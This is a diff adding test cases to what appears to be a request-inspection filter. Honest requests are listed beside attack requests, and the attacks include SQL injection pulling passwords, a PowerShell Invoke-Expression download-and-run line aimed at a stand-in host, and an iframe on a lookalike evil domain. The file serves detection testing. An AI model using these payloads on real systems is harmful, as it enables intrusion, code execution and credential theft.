@@ -44,6 +44,25 @@ const KINDS: Readonly<
     { readonly honest: readonly InspectedRequest[]; readonly attacks: readonly InspectedRequest[] }
   >
 > = {
+  'paths, queries and commands that are but named': {
+    honest: [
+      asked('/crumbIssuer/api/xml', { xpath: 'concat(//crumbRequestField,":",//crumb)' }),
+      asked('/api/xml', { xpath: "count(//job[name='a'])" }),
+      filled({ subject: 'Re: JSqlParser "Select 1"', message: 'It works.' }),
+      sent({ description: 'I run it with {{invoke-expression}} and it fails' }),
+      filled({ body: '<p>x</p><iframe src="https://www.aparat.com/video/video/embed/a/vt/frame"></iframe>' }),
+    ],
+    attacks: [
+      asked('/api/xml', { xpath: 'concat(//a,1) union select password from users' }),
+      asked('/api/xml', { xpath: 'concat(0x3a,version())' }),
+      filled({ subject: "x' union select password from users--" }),
+      sent({ description: 'x | Invoke-Expression' }),
+      sent({
+        description: 'Invoke-Expression (New-Object Net.WebClient).DownloadString("http://e.example")',
+      }),
+      filled({ body: '<iframe src="https://aparat.com.evil.example/a"></iframe>' }),
+    ],
+  },
   'names of schemas and databases': {
     honest: [
       sent({ db_name: 'shop', schema_name: 'public' }),
